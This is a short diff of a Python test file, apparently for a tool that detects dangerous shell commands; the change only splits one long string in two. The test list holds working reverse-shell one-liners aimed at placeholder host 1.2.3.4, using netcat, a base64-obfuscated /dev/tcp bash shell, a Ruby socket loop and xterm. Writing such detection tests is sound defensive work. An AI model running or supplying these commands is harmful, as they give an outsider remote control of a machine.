@@ -153,7 +153,8 @@ def test_findings_that_ask(line: str, code: ReasonCode, project: Path) -> None:
         "busybox nc 1.2.3.4 1 -e sh",
         "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQyNDIgMD4mMQ== | base64 -d | bash",
         "nohup bash -c 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1' &",
-        'ruby -rsocket -e \'c=TCPSocket.new("1.2.3.4","1");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
+        'ruby -rsocket -e \'c=TCPSocket.new("1.2.3.4","1");'
+        'while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
         "xterm -display 1.2.3.4:1",
     ],
 )
